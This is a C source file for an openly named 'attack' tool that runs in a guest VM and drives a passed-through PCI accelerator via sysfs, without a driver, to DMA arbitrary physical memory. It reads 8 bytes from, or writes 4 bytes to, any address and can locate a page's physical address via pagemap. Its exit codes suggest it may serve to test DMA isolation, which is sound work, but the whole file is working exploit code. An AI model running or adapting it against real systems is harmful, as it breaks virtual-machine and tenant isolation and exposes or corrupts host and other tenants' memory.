/* SPDX-License-Identifier: MIT */
/*
 * Makes a borrowed accelerator do DMA to any address, as a hostile borrower
 * can: it programs the device by sysfs, without a driver. Runs in a guest.
 *
 *   attack where FILE                   makes FILE one page, and prints the
 * page's physical address attack write FUNCTION ADDRESS DATA  writes DATA, 4
 * bytes, to ADDRESS attack read FUNCTION ADDRESS        prints the 8 bytes at
 * ADDRESS
 *
 * Exit status: 0 if the device has done it, 1 if its DMA has failed, 2 if the
 * program itself has failed. docs/reference/gpu.md has the registers and
 * commands.
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE          4096
#define REGISTERS     0x4000
#define QUEUE(offset) ((0x100 + (offset)) / 4)
#define OWN_MEMORY    (1ull << 63)

/* Places in the device's memory */
#define RING 0
#define DATA 0x1000

#define OP_COPY 1

struct command {
    uint8_t operation;
    uint8_t flags;
    uint16_t zero;
    uint32_t length;
    uint64_t source;
    uint64_t destination;
    uint64_t zero2;
};

static void fail(const char *what)
{
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(2);
}

static void *map(const char *function, const char *file, size_t size)
{
    char path[256];
    void *memory;
    int fd;

    snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/%s", function, file);
    fd = open(path, O_RDWR | O_SYNC);
    if (fd < 0) {
        fail(path);
    }
    memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (memory == MAP_FAILED) {
        fail(path);
    }
    close(fd);
    return memory;
}

/* Memory accesses and bus mastering: PCIe 5.0 s7.5.1.1.3 */
static void enable(const char *function)
{
    const uint16_t command = 0x406;
    char path[256];
    int fd;

    snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/enable", function);
    fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, "1", 1) != 1) {
        fail(path);
    }
    close(fd);
    snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", function);
    fd = open(path, O_RDWR);
    if (fd < 0 || pwrite(fd, &command, sizeof(command), 4) != sizeof(command)) {
        fail(path);
    }
    close(fd);
}

/* Copies by the device. The ring lies in the window's bytes of the device that
 * are its own memory, so the device needs no other address. Returns the exit
 * status. */
static int copy(const char *function, uint64_t source, uint64_t destination,
                uint32_t length, uint64_t *data)
{
    struct command command = {
        .operation = OP_COPY,
        .length = length,
        .source = source,
        .destination = destination,
    };
    volatile uint32_t *registers;
    volatile uint64_t *memory;
    uint64_t words[sizeof(command) / 8];
    unsigned i, error;

    enable(function);
    registers = map(function, "resource0", REGISTERS);
    memory = map(function, "resource2", 2 * PAGE);
    memory[DATA / 8] = *data;
    memcpy(words, &command, sizeof(command));
    for (i = 0; i < sizeof(command) / 8; i++) {
        memory[RING / 8 + i] = words[i];
    }
    registers[2] = 1; /* CONTROL: reset all queues */
    registers[QUEUE(0)] = RING;
    registers[QUEUE(4)] = (uint32_t)(OWN_MEMORY >> 32);
    registers[QUEUE(8)] = 2;
    registers[QUEUE(0xc)] = 1;
    if (!(registers[QUEUE(0xc)] & 1)) {
        fprintf(stderr, "attack: the device does not take the ring\n");
        return 2;
    }
    registers[QUEUE(0x14)] = 1;
    for (i = 0; i < 2000; i++) {
        error = registers[QUEUE(0x28)];
        if (error || registers[QUEUE(0x10)] == 1) {
            break;
        }
        usleep(1000);
    }
    *data = memory[DATA / 8];
    if (error || i == 2000) {
        fprintf(stderr, "attack: the device stopped with error %u\n", error);
        return error == 6 ? 1 : 2;
    }
    return 0;
}

static int where(const char *path)
{
    int fd = open(path, O_RDWR | O_CREAT, 0600);
    int pages = open("/proc/self/pagemap", O_RDONLY);
    uint64_t entry;
    char *memory;

    if (fd < 0 || pages < 0 || ftruncate(fd, PAGE) < 0) {
        fail(path);
    }
    memory = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (memory == MAP_FAILED) {
        fail(path);
    }
    memset(memory, 0x5a, PAGE);
    if (pread(pages, &entry, sizeof(entry),
              (off_t)((uintptr_t)memory / PAGE * sizeof(entry))) !=
            sizeof(entry) ||
        !(entry >> 63)) {
        fail("/proc/self/pagemap");
    }
    printf("0x%" PRIx64 "\n", (entry & (((uint64_t)1 << 55) - 1)) * PAGE);
    return 0;
}

int main(int argc, char **argv)
{
    uint64_t address = argc > 3 ? strtoull(argv[3], NULL, 0) : 0, data = 0;
    int status;

    if (argc == 3 && strcmp(argv[1], "where") == 0) {
        return where(argv[2]);
    }
    if (argc == 5 && strcmp(argv[1], "write") == 0) {
        data = strtoull(argv[4], NULL, 0);
        return copy(argv[2], OWN_MEMORY | DATA, address, 4, &data);
    }
    if (argc == 4 && strcmp(argv[1], "read") == 0) {
        status = copy(argv[2], address, OWN_MEMORY | DATA, 8, &data);
        printf("0x%" PRIx64 "\n", data);
        return status;
    }
    fprintf(stderr, "usage: attack where FILE\n"
                    "       attack write FUNCTION ADDRESS DATA\n"
                    "       attack read FUNCTION ADDRESS\n");
    return 2;
}
